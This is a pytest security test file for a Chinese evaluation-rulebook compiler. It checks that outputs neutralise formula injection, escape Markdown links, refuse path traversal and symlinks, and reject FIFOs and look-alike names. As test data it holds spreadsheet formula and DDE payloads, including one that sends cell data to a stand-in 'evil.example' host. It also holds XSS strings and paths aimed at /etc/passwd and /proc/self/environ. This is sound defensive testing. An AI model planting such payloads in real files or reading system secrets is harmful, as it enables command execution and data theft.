"""Issue 18, the security and checker half: hostile rulebooks, cases, suites and data files
(docs/security.md). One test (or a few) per item, named after it:

  item 4   --emit-python never over the rulebook, a library it imports or any input
  item 7   formula injection: no live formula in any workbook, CSV cells neutralised, Markdown
           without links or images from rulebook text
  item 8   imports and suite paths inside the importer's tree / the suite's project; excerpts
           only from jixiao files
  item 10  "did you mean" does bounded work per name
  item 11  no decimal.Overflow from the interval arithmetic
  item 12  path errors (NUL, 300-character names) as diagnostics
  item 13  lone surrogates and control characters through every writer
  item 15  a FIFO as rulebook, case or suite is refused, never waited on
  item 16  a 精度 too fine is no "除数为零"
  item 19  look-alike and invisible names refused at check
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from decimal import Decimal, InvalidOperation, localcontext
from pathlib import Path

import openpyxl
import pytest

from conftest import run_cli
from jixiao.compiler import api, publish
from jixiao.compiler.api import check_file, check_text, compile_rulebook
from jixiao.compiler.backend import runtime
from jixiao.compiler.data import DataError
from jixiao.compiler.data.job import score_file
from jixiao.compiler.safe_text import csv_cell, formula_like, json_text, markdown_text
from jixiao.dsl import names
from jixiao.dsl.checks import intervals as iv
from jixiao.dsl.diagnostics import JixiaoError

ROOT = Path(__file__).resolve().parents[2]

# every payload a spreadsheet could run: formulas, DDE, a hyperlink, a leading tab / CR
PAYLOADS = ["=HYPERLINK('http://evil.example/?x='&A1,'click')", "=1+2", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=x", "\r=y", "=cmd|'/C notepad'!'A1'"]

HOSTILE_RULEBOOK = """规则集 "=HYPERLINK('http://evil.example','x')"
满分 2

指标 「=1+2」 1分:
  说明 "@SUM(1+1)*cmd|' /C calc'!A0 [x](javascript:alert(1)) ![i](http://evil.example/i.png)"
  输入 a: 是否
  得分 = 如果 a 则 1 否则 0

指标 「-2+3」 1分:
  说明 "+cmd|' /C calc'!A0 <img src=x onerror=alert(1)>"
  输入 b: 是否
  得分 = 如果 b 则 1 否则 0

等级:
  「=A1」: 总分 >= 1
  「@x」: 否则
"""

HOSTILE_CASE = '案例 "=HYPERLINK(\'http://evil.example\')"\na = 是\nb = 否\n'


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def hostile(tmp_path):
    rb = write(tmp_path / "R.jx", HOSTILE_RULEBOOK)
    case = write(tmp_path / "c.jxc", HOSTILE_CASE)
    rows = [["id", "name", "a", "b"]] + [[p, p, "是", "否"] for p in PAYLOADS] + [["-3", "1e5", "否", "是"]]
    import csv
    with open(tmp_path / "d.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return tmp_path, rb, case, tmp_path / "d.csv"


def formulas(path: Path) -> list:
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def texts(path: Path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


# ───────────────────────── item 4 ─────────────────────────

def test_item04_emit_python_refuses_to_overwrite_the_rulebook_or_a_library(tmp_path):
    lib = write(tmp_path / "库.jx", '方法库 "库"\n\n方法 倍(x, k):\n  得分 = x × k\n')
    rb = write(tmp_path / "R.jx", '规则集 "t"\n满分 1\n引用 "库.jx"\n输入 a: 数值 范围 0 至 1\n'
                                  '指标 A 1分:\n  得分 = 倍(a, 1)\n等级:\n  全: 否则\n')
    before = {p: p.read_bytes() for p in (rb, lib)}
    (tmp_path / "link.py").symlink_to(rb)
    for target in ("R.jx", "库.jx", "link.py"):
        res = run_cli(["compile", "R.jx", "--emit-python", target], cwd=tmp_path)
        assert res.exit_code == 1, res.output
        assert "E0803" in res.stderr, res.stderr
    assert all(p.read_bytes() == b for p, b in before.items())
    assert (tmp_path / "link.py").is_symlink()
    res = run_cli(["compile", "R.jx", "--emit-python", "out.py"], cwd=tmp_path)
    assert res.exit_code == 0 and (tmp_path / "out.py").read_text(encoding="utf-8").startswith("#")


# ───────────────────────── item 7 ─────────────────────────

def test_item07_formula_injection_xlsx(hostile):
    d, rb, case, data = hostile
    assert run_cli(["score", rb, data, "-o", d / "o.xlsx", "-j", "1"], cwd=d).exit_code == 0
    assert run_cli(["report", rb, case, "-o", d / "r.xlsx"], cwd=d).exit_code == 0
    assert run_cli(["doc", rb, "-o", d / "doc.xlsx"], cwd=d).exit_code == 0
    for book in ("o.xlsx", "r.xlsx", "doc.xlsx"):
        assert formulas(d / book) == [], book
        risky = [c for c in texts(d / book) if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert risky, book                                   # the payloads are there, as text …
        assert all(c.data_type == "s" and c.quotePrefix for c in risky), book   # … marked as text
    ids = {c.value for c in texts(d / "o.xlsx")}
    assert {p.replace("\r", "\n") for p in PAYLOADS} <= ids    # kept character for character (XML reads CR as LF)


def test_item07_formula_injection_csv_neutralised_in_both_paths(hostile):
    d, rb, case, data = hostile
    for j in ("1", "2"):
        assert run_cli(["score", rb, data, "-o", d / f"o{j}.csv", "-j", j], cwd=d).exit_code == 0
    one, two = (d / "o1.csv").read_bytes(), (d / "o2.csv").read_bytes()
    assert one == two
    import csv
    import io
    rows = list(csv.reader(io.StringIO(one.decode("utf-8-sig"), newline="")))
    assert rows[0][2:4] == ["'=1+2", "'-2+3"]                # indicator names from the rulebook
    for row in rows[1:]:
        for cell in row:
            assert not formula_like(cell), row
    assert [r[0] for r in rows[1:len(PAYLOADS) + 1]] == ["'" + p for p in PAYLOADS]     # kept, behind a '
    assert rows[-1][0] == "-3" and rows[-1][-1] == "'=A1"   # a plain number stays a number; the grade is neutralised
    assert csv_cell("-3") == "-3" and csv_cell("+1.5") == "+1.5" and csv_cell("-2+3") == "'-2+3"


def test_item07_markdown_keeps_no_links_or_images(hostile):
    d, rb, case, _data = hostile
    assert run_cli(["report", rb, case, "-o", d / "r.md"], cwd=d).exit_code == 0
    assert run_cli(["doc", rb, "-o", d / "doc.md"], cwd=d).exit_code == 0
    for md in ("r.md", "doc.md"):
        text = (d / md).read_text(encoding="utf-8")
        assert "javascript" in text                          # the text is shown …
        import re
        assert not re.search(r"(?<!\\)\]\(", text) and not re.search(r"(?<!\\)!(?<!\\)\[", text)   # … never a link or image
        assert "<img" not in text
    assert markdown_text("[x](javascript:alert(1))") == "\\[x\\](javascript:alert(1))"
    assert markdown_text("![i](http://e/i.png)") == "\\!\\[i\\](http://e/i.png)"


def test_every_workbook_written_has_no_formula(tmp_path):
    """What it must show: every writer (batch output with its 指标行 sheet, report, doc),
    hostile text in every field (ids, headers, indicator names, grade names, title, 说明,
    the case title, the rows' names), read back with openpyxl: no cell has data_type "f"."""
    evil = "=HYPERLINK('http://e')"
    rb_text = (ROOT / "stdlib_indicators" / "部门整体支出自评.jx").read_text(encoding="utf-8")
    rb_text = rb_text.replace('规则集 "', f'规则集 "{evil}', 1)
    rb_path = write(tmp_path / "部门整体支出自评.jx", rb_text)
    (tmp_path / "计分方法.jx").write_bytes((ROOT / "stdlib_indicators" / "计分方法.jx").read_bytes())
    case_text = (ROOT / "examples" / "chenxi-2021" / "self-evaluation.jxc").read_text(encoding="utf-8")
    case_text = case_text.replace('案例 "', f'案例 "{evil}', 1)
    case = write(tmp_path / "c.jxc", case_text)
    books = []
    assert run_cli(["report", rb_path, case, "-o", tmp_path / "r.xlsx"], cwd=tmp_path).exit_code == 0
    assert run_cli(["doc", rb_path, "-o", tmp_path / "doc.xlsx"], cwd=tmp_path).exit_code == 0
    books += ["r.xlsx", "doc.xlsx"]
    # batch output with the 指标行 sheet: a folder of cases, whose titles and row names are hostile
    folder = tmp_path / "cases"
    folder.mkdir()
    rows_case = case_text
    for k, p in enumerate(PAYLOADS[:3]):
        write(folder / f"u{k}.jxc", rows_case.replace(f'案例 "{evil}', f'案例 "{p}', 1))
    res = run_cli(["score", rb_path, folder, "-o", tmp_path / "batch.xlsx"], cwd=tmp_path)
    assert res.exit_code == 0, res.output
    books.append("batch.xlsx")
    assert "指标行" in openpyxl.load_workbook(tmp_path / "batch.xlsx").sheetnames
    # and the hostile rulebook above, through a data file
    hrb = write(tmp_path / "H.jx", HOSTILE_RULEBOOK)
    write(tmp_path / "d.csv", "id,=name,a,b\n" + "".join(f'"{p}","{p}",是,否\n' for p in PAYLOADS if '"' not in p))
    assert run_cli(["score", hrb, tmp_path / "d.csv", "-o", tmp_path / "h.xlsx"], cwd=tmp_path).exit_code == 0
    books.append("h.xlsx")
    for b in books:
        assert formulas(tmp_path / b) == [], b
        assert any(c.value.startswith("=") for c in texts(tmp_path / b)), b   # the payload was written, as text


# ───────────────────────── item 8 ─────────────────────────

SECRET = "JIXIAO_TEST_SECRET=hunter2-do-not-print"


def test_item08_symlinked_import_outside_the_folder_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    write(outside / "secret.jx", f"方法库 \"x\"\n{SECRET}\n")
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "env.jx").symlink_to(outside / "secret.jx")
    rb = write(proj / "R.jx", '规则集 "t"\n满分 1\n引用 "env.jx"\n指标 A 1分:\n  得分 = 1\n等级:\n  全: 否则\n')
    res = run_cli(["check", rb], cwd=proj)
    assert res.exit_code == 1
    assert "E0209" in res.stdout and "hunter2" not in res.output, res.output
    # the same file inside the folder (not a link out) is read: it is a library with a syntax error
    write(proj / "env2.jx", f"方法库 \"x\"\n{SECRET}\n")
    rb2 = write(proj / "R2.jx", '规则集 "t"\n满分 1\n引用 "env2.jx"\n指标 A 1分:\n  得分 = 1\n等级:\n  全: 否则\n')
    res = run_cli(["check", rb2], cwd=proj)
    assert "env2.jx" in res.stdout and "E0209" not in res.stdout


def test_item08_symlink_in_a_checked_folder_leading_out_is_skipped(tmp_path):
    (tmp_path / "environ.jx").symlink_to("/proc/self/environ")
    write(tmp_path / "ok.jx", '规则集 "t"\n满分 1\n指标 A 1分:\n  得分 = 1\n等级:\n  全: 否则\n')
    res = run_cli(["check", tmp_path], cwd=tmp_path)
    assert "environ" not in res.output and "1 个文件" in res.stderr, res.output


@pytest.mark.parametrize("line,why", [
    ('规则集 "/etc/passwd"', "相对路径"),
    ('规则集 "../../../../../../etc/x.jx"', "之外"),
    ('规则集 "R.jx"\n基于 "/etc/hostname"', "相对路径"),
    ('规则集 "R.jx"\n基于 "secret.txt"', ".jxc"),
    ('规则集 "R.jx"\n基于 "link.jxc"', "之外"),
])
def test_item08_suite_paths_stay_in_the_project(tmp_path, line, why):
    outside = tmp_path / "outside"
    outside.mkdir()
    write(outside / "x.jxc", f'案例 "x"\n{SECRET}\n')
    proj = tmp_path / "proj"
    proj.mkdir()
    write(proj / "jixiao.toml", "")
    write(proj / "secret.txt", SECRET + "\n")
    (proj / "link.jxc").symlink_to(outside / "x.jxc")
    write(proj / "R.jx", '规则集 "t"\n满分 1\n输入 a: 是否\n指标 A 1分:\n  得分 = 如果 a 则 1 否则 0\n等级:\n  全: 否则\n')
    suite = write(proj / "t.jxt", f'测试 "t"\n{line}\n\n案例 "c":\n  a = 是\n  预期:\n    A = 1\n')
    res = run_cli(["test", suite], cwd=proj)
    assert res.exit_code == 1
    assert "E0106" in res.output and why in res.output, res.output
    assert "hunter2" not in res.output


def test_item08_suite_may_climb_inside_its_project(tmp_path):
    write(tmp_path / "jixiao.toml", "")
    (tmp_path / "tests").mkdir()
    write(tmp_path / "R.jx", '规则集 "t"\n满分 1\n输入 a: 是否\n指标 A 1分:\n  得分 = 如果 a 则 1 否则 0\n等级:\n  全: 否则\n')
    write(tmp_path / "base.jxc", '案例 "b"\na = 否\n')
    suite = write(tmp_path / "tests" / "t.jxt", '测试 "t"\n规则集 "../R.jx"\n基于 "../base.jxc"\n\n案例 "c":\n  a = 是\n  预期:\n    A = 1\n')
    res = run_cli(["test", suite], cwd=tmp_path)
    assert res.exit_code == 0, res.output


def test_item08_excerpts_only_from_jixiao_files(tmp_path):
    notes = write(tmp_path / "notes.txt", f"{SECRET}\n")
    res = run_cli(["check", notes], cwd=tmp_path)
    assert res.exit_code == 1 and "E01" in res.stdout
    assert SECRET not in res.stdout.split("\n", 1)[1]        # no source line under the message
    res = run_cli(["check", write(tmp_path / "bad.jx", f"{SECRET}\n")], cwd=tmp_path)
    assert " | " in res.stdout                                # a jixiao file keeps its excerpt


# ───────────────────────── item 10 ─────────────────────────

def test_item10_did_you_mean_does_bounded_work_per_name(monkeypatch):
    calls = []
    real = names._distance_to
    monkeypatch.setattr(names, "_distance_to", lambda *a: calls.append(1) or real(*a))
    n = 2000
    cands = {f"项目支出指标{i:04d}" for i in range(n)}
    per_name = []
    for i in range(0, n, 10):
        before = len(calls)
        q = f"项目支出指{i:04d}标"                          # 标 moved: distance 2 from the name meant
        got = names.suggest(q, cands)
        per_name.append(len(calls) - before)
        # the best suggestion is as near as the name meant (ties are legitimate: 0000 for 1000)
        assert got and names.edit_distance(q, got[0]) <= names.edit_distance(q, f"项目支出指标{i:04d}"), (i, got)
    assert max(per_name) <= names.MAX_COMPARE           # not the 2,000 candidates
    # the checker: 300 misspelt names in one growing scope, each with its suggestion
    inputs = "".join(f"输入 项目支出指标{i:04d}: 数值 范围 0 至 1\n" for i in range(300))
    body = "".join(f"  x{i} = 项目支出指{i:04d}标\n" for i in range(300))
    calls.clear()
    r = check_text(f'规则集 "t"\n满分 1\n{inputs}指标 A 1分:\n{body}  得分 = 0\n等级:\n  全: 否则\n')
    e0201 = [d for d in r.diagnostics if d.code == "E0201"]
    assert len(e0201) == 300 and all(d.helps for d in e0201)
    assert len(calls) <= 300 * names.MAX_COMPARE


def test_item10_small_candidate_sets_are_searched_exhaustively():
    assert names.suggest("最大值值", {"最大值", "最大", "最小值", "绝对值", "取整"})[:1] == ["最大值"]
    assert names.suggest("在职人数", {"在职人员数", "编制数"}) == ["在职人员数"]


# ───────────────────────── item 11 ─────────────────────────

def _squares(op="×", last="v29", lo="0"):
    big = "9" * 50
    body = "".join(f"  v{i} = {'a' if i == 1 else f'v{i - 1}'} {op} {'a' if i == 1 else f'v{i - 1}'}\n" for i in range(1, 30))
    return (f'规则集 "t"\n满分 1\n精度 0.01\n输入 a: 数值 范围 {lo} 至 {big}\n指标 A 1分:\n{body}'
            f"  得分 = {last}\n等级:\n  全: 否则\n")


@pytest.mark.parametrize("op,last,lo", [("×", "v29", "0"), ("×", "min(v29, 1)", "0"), ("×", "max(min(v29, 1), 0)", "-" + "9" * 50),
                                        ("+", "v29", "-" + "9" * 50), ("×", "如果 v29 > 1 则 1 否则 0", "0")])
def test_item11_interval_overflow_is_no_traceback(op, last, lo):
    r = check_text(_squares(op, last, lo))            # was decimal.Overflow (and 2^29 evaluations)
    codes = {d.code for d in r.diagnostics}
    if last == "v29" and op == "×":
        assert codes & {"E0501", "W0505"}               # an unbounded score is reported, not proven
    assert all(d.code[0] in "EWI" for d in r.diagnostics)


def test_item11_interval_ends_widen_soundly():
    huge = Decimal("9e99990")
    a = iv.Interval(huge, huge)
    sq = iv.mul(a, a)
    assert sq.lo is None or sq.lo <= huge * huge        # beyond the exponents kept: unbounded, never too narrow
    assert sq.hi is None
    neg = iv.mul(iv.Interval(-huge, -huge), a)
    assert neg.lo is None and (neg.hi is None or neg.hi >= Decimal(0) - huge * huge)
    tiny = Decimal("1e-99990")
    t = iv.mul(iv.Interval(tiny, tiny), iv.Interval(tiny, tiny))
    assert t.lo is not None and t.lo <= 0 < t.hi        # tiny: still contains the true product


# ───────────────────────── item 12 ─────────────────────────

LONG = "长" * 300


def test_item12_path_errors_are_diagnostics(tmp_path):
    rb_text = '规则集 "t"\n满分 1\n引用 "{p}"\n指标 A 1分:\n  得分 = 1\n等级:\n  全: 否则\n'
    for bad in ("a\0.jx", LONG + ".jx"):
        with pytest.raises(JixiaoError) as e:
            compile_rulebook(rb_text.format(p=bad), name=str(tmp_path / "R.jx"))
        assert "E0209" in {d.code for d in e.value.diagnostics}
    for bad in ("a\0.jx", LONG + ".jx"):
        assert {d.code for d in check_file(tmp_path / bad).diagnostics} == {"E0106"}
        with pytest.raises(JixiaoError):
            compile_rulebook(path=tmp_path / bad)
    rb = compile_rulebook('规则集 "t"\n满分 1\n输入 a: 是否\n指标 A 1分:\n  得分 = 如果 a 则 1 否则 0\n等级:\n  全: 否则\n')
    for bad in ("a\0.jxc", LONG + ".jxc"):
        with pytest.raises(JixiaoError):
            rb.load_case(tmp_path / bad)
    data = write(tmp_path / "d.csv", "a\n是\n")
    for bad in ("a\0.csv", LONG + ".csv"):
        with pytest.raises(DataError):
            score_file(rb, tmp_path / bad, None)
        with pytest.raises(DataError):
            score_file(rb, data, tmp_path / bad)


@pytest.mark.parametrize("args", [
    ["check", LONG + ".jx"], ["score", "R.jx", LONG + ".jxc"], ["score", "R.jx", LONG + ".csv"],
    ["score", "R.jx", "d.csv", "-o", LONG + ".csv"], ["report", "R.jx", "c.jxc", "-o", LONG + ".md"],
    ["compile", "R.jx", "--emit-python", LONG + ".py"], ["doc", "R.jx", "-o", LONG + ".xlsx"],
])
def test_item12_long_names_on_the_command_line(tmp_path, args):
    write(tmp_path / "R.jx", '规则集 "t"\n满分 1\n输入 a: 是否\n指标 A 1分:\n  得分 = 如果 a 则 1 否则 0\n等级:\n  全: 否则\n')
    write(tmp_path / "c.jxc", '案例 "c"\na = 是\n')
    write(tmp_path / "d.csv", "a\n是\n")
    res = run_cli(args, cwd=tmp_path)
    assert res.exit_code in (1, 2), res.output
    assert "Traceback" not in res.output
    assert "too long" in res.output or "255" in res.output or "过长" in res.output, res.output


# ───────────────────────── item 13 ─────────────────────────

def test_item13_lone_surrogates_and_control_characters_through_every_writer(hostile):
    d, rb, _case, _data = hostile
    units = [{"id": "u\ud800x", "name\u0001": "n\u0007", "a": "是", "b": "否"},
             {"id": "\udfff", "name\u0001": "\x1b[31m", "a": "否", "b": "是"}]
    src = d / "s.json"
    src.write_text(json.dumps(units), encoding="utf-8")      # ASCII escapes: \ud800 in the file
    res = run_cli(["score", rb, src], cwd=d)                 # CSV on standard output
    assert res.exit_code == 0, res.output
    assert "u\ufffdx" in res.stdout and "name\ufffd" in res.stdout
    for out in ("o.csv", "o.jsonl", "o.json", "o.xlsx"):
        res = run_cli(["score", rb, src, "-o", d / out], cwd=d)
        assert res.exit_code == 0, (out, res.output)
    assert "u\ufffdx" in (d / "o.csv").read_text(encoding="utf-8-sig")
    back = [json.loads(line) for line in (d / "o.jsonl").read_text(encoding="utf-8").splitlines()]
    assert back[0]["id"] == "u\ud800x" and back[1]["name\u0001"] == "\x1b[31m"     # JSON: nothing lost
    assert json.loads((d / "o.json").read_text(encoding="utf-8"))[1]["id"] == "\udfff"
    wb = openpyxl.load_workbook(d / "o.xlsx")
    values = [c.value for row in wb.active.iter_rows() for c in row]
    assert "u\ufffdx" in values and "name\ufffd" in values and "\ufffd[31m" in values
    assert json.loads(json_text({"k": "\ud800"})) == {"k": "\ud800"}


def test_item13_rulebook_text_with_surrogates_and_controls(tmp_path):
    text = HOSTILE_RULEBOOK.replace('规则集 "', '规则集 "\ud800\x01', 1).replace('说明 "@', '说明 "\x02\udc00@', 1)
    rb = compile_rulebook(text)
    case = rb.load_case(write(tmp_path / "c.jxc", HOSTILE_CASE))
    result = rb.evaluate_case(case, trace=True)
    for out in ("r.xlsx", "r.md", "r.html"):
        publish.write_report(rb, case, result, tmp_path / out)
    publish.write_doc(rb, tmp_path / "d.xlsx")
    for book in ("r.xlsx", "d.xlsx"):
        values = [c.value for row in openpyxl.load_workbook(tmp_path / book).active.iter_rows() for c in row]
        assert any(isinstance(v, str) and v.startswith("\ufffd\ufffd") for v in values), book
    assert "\ufffd\ufffd" in (tmp_path / "r.md").read_text(encoding="utf-8")
    # in a name, a control character is refused at check
    bad = HOSTILE_RULEBOOK.replace("「=1+2」", "「a\x01b」")
    assert "E0213" in {d.code for d in check_text(bad).diagnostics}


# ───────────────────────── item 15 ─────────────────────────

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
@pytest.mark.parametrize("args,fifo", [(["check", "f.jx"], "f.jx"), (["score", "R.jx", "f.jxc"], "f.jxc"),
                                       (["test", "f.jxt"], "f.jxt"), (["score", "f.jx", "c.jxc"], "f.jx")])
def test_item15_fifo_is_refused_not_waited_on(tmp_path, args, fifo):
    write(tmp_path / "R.jx", '规则集 "t"\n满分 1\n输入 a: 是否\n指标 A 1分:\n  得分 = 如果 a 则 1 否则 0\n等级:\n  全: 否则\n')
    write(tmp_path / "c.jxc", '案例 "c"\na = 是\n')
    os.mkfifo(tmp_path / fifo)
    # a subprocess, so that a regression hangs it (and the timeout fails the test), not pytest
    proc = subprocess.run([sys.executable, "-c", "from jixiao.compiler.cli import main; main()", *args],
                          cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "E0106" in proc.stdout + proc.stderr and "不是普通文件" in proc.stdout + proc.stderr


# ───────────────────────── item 16 ─────────────────────────

FINE = """规则集 "t"
满分 5
精度 0.000000000000000000000000000000000000000001

输入 a: 数值 范围 0 至 100

指标 A 5分:
  得分 = min(a × 2, 5)

等级:
  全: 否则
"""


def test_item16_too_fine_precision_is_refused_at_check_not_division_by_zero(tmp_path):
    r = check_text(FINE)
    [d] = [d for d in r.diagnostics if d.severity == "error"]
    assert d.code == "E0206" and "44" in d.message_in("en"), d.message_in("en")
    rb = write(tmp_path / "fine.jx", FINE)
    res = run_cli(["test", "--properties", rb], cwd=tmp_path)
    assert res.exit_code == 1 and "0 passed, 1 failed" in res.output
    ok = FINE.replace("0.000000000000000000000000000000000000000001", "0.0000000000000000000000001")
    assert check_text(ok).ok


def test_item16_arithmetic_errors_say_what_they_are():
    def code(f):
        with localcontext(runtime.CONTEXT):
            try:
                f()
            except ArithmeticError:
                return runtime.arithmetic_error(0, "A").code
    assert code(lambda: Decimal(1) / Decimal(0)) == "E0701"
    assert code(lambda: Decimal(0) / Decimal(0)) == "E0701"
    assert code(lambda: Decimal(5).quantize(Decimal("1e-45"))) == "E0708"    # no division at all
    assert runtime.MESSAGES["E0708"][0].startswith("计算")


# ───────────────────────── item 19 ─────────────────────────

@pytest.mark.parametrize("names_,code", [
    (("a", "ａ"), "E0214"), (("「第１项」", "「第1项」"), "E0214"), (("「三公 经费」", "三公经费"), "E0214"),
    (("「b\u200bc」", "bc"), "E0213"), (("「x\u202ey」", "xy"), "E0213"), (("「p\u2066q」", "pq"), "E0213"),
])
def test_item19_lookalike_and_invisible_names_refused_at_check(names_, code):
    n1, n2 = names_
    text = (f'规则集 "t"\n满分 2\n输入 {n1}: 是否\n输入 {n2}: 是否\n'
            f'指标 A 1分:\n  得分 = 如果 {n1} 则 1 否则 0\n指标 B 1分:\n  得分 = 如果 {n2} 则 1 否则 0\n等级:\n  全: 否则\n')
    r = check_text(text)
    assert code in {d.code for d in r.diagnostics}, [d.message_in("en") for d in r.diagnostics]
    d = next(d for d in r.diagnostics if d.code == code)
    assert d.message_in("zh") != d.message_in("en")


def test_item19_indicator_lookalikes():
    text = ('规则集 "t"\n满分 2\n指标 A 1分:\n  得分 = 1\n指标 「Ａ」 1分:\n  得分 = 1\n等级:\n  全: 否则\n')
    assert "E0214" in {d.code for d in check_text(text).diagnostics}
